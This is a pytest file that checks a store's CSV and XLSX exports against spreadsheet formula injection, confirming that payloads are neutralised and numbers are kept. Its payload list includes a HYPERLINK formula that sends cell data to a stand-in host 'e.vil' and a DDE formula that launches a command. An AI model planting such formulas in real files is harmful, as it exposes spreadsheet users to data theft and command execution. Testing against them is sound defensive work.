"""Exports opened in a spreadsheet: no analyst- or report-supplied text becomes a live formula.

Every export is scanned (CSV and XLSX from the API the Briefing downloads call, from the CLI, and the
Places CSV): an XLSX holds no formula cell, a CSV no text cell that starts with a formula character;
numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from store.export import export_events
from store.filters import EventFilter
from store.places import add_place, export_places_csv
from store.reports import add_report
from store.spreadsheet import FORMULA_STARTS, csv_cell
from tests.store.conftest import run_cli, sample_event, unique_text

PAYLOADS = [
    '=HYPERLINK("http://e.vil/?"&A1,"TV")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.fixture(scope="module")
def seeded(db_url: str) -> str:
    events = [
        sample_event(actor1=p, actor2=p, notes=p, location=p, admin1="Formula", latitude=-12.25)
        for p in PAYLOADS
    ]
    add_report(unique_text(), "2024-03-02", source=PAYLOADS[0], events=events, analyst="t")
    add_place({"name_ar": "قرية", "name_en": PAYLOADS[1], "kind": "village", "lat": 36.5, "lon": 40.1}, "t")
    return db_url


def _formula_like(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)  # a negative number is a number, not a formula
    except ValueError:
        return True
    return False


def scan_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    bad = [c for r in rows for c in r if _formula_like(c)]
    assert not bad, bad
    return rows


def scan_xlsx(data: bytes) -> list[tuple]:
    wb = load_workbook(io.BytesIO(data))
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, formulas
    return list(wb["events"].iter_rows(values_only=True))


FLT = EventFilter(admin1=("Formula",), actor="=cmd")


def test_csv_export_neutralises_formulas_and_keeps_numbers(seeded: str) -> None:
    rows = scan_csv(export_events(EventFilter(admin1=("Formula",)), "csv"))
    head = rows[0]
    recs = [dict(zip(head, r, strict=True)) for r in rows[1:]]
    assert sorted(r["notes"] for r in recs) == sorted(
        "'" + p.strip() for p in PAYLOADS
    )  # text is stored stripped
    assert {r["source"] for r in recs} == {"'" + PAYLOADS[0]}
    assert {r["latitude"] for r in recs} == {"-12.25"}  # a number stays a number
    assert {r["fatalities"] for r in recs} == {"2"}


def test_xlsx_export_writes_text_as_text(seeded: str) -> None:
    rows = scan_xlsx(export_events(FLT, "xlsx"))
    head = rows[0]
    recs = [dict(zip(head, r, strict=True)) for r in rows[1:]]
    assert [r["notes"] for r in recs] == [PAYLOADS[1]]  # the value itself, as text
    assert recs[0]["latitude"] == -12.25 and recs[0]["fatalities"] == 2


def test_cli_exports_are_scanned(seeded: str, tmp_path: Path) -> None:
    proc = run_cli("export", "--format", "csv", "--admin1", "Formula")
    assert proc.returncode == 0, proc.stderr
    assert len(scan_csv(proc.stdout.encode("utf-8"))) == len(PAYLOADS) + 1
    out = tmp_path / "e.xlsx"
    proc = run_cli("export", "--format", "xlsx", "--out", str(out), "--actor", "=cmd")
    assert proc.returncode == 0, proc.stderr
    assert len(scan_xlsx(out.read_bytes())) == 2
    proc = run_cli("places", "export")
    assert proc.returncode == 0, proc.stderr
    assert len(scan_csv(proc.stdout.encode("utf-8"))) >= 2


def test_places_csv_neutralises_names(seeded: str) -> None:
    rows = scan_csv(export_places_csv())
    names = [dict(zip(rows[0], r, strict=True))["name_en"] for r in rows[1:]]
    assert "'" + PAYLOADS[1] in names


def test_csv_cell_rules() -> None:
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", 5, -3.5, None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", 5, -3.5, None,
    ]  # fmt: skip


def test_tables_offer_no_unsafe_csv_button() -> None:
    """Streamlit's own table download quotes cells but leaves formulas live: the app turns it off, so every
    CSV an analyst downloads comes through store.spreadsheet."""
    import tomllib

    from tests.store.conftest import ROOT

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
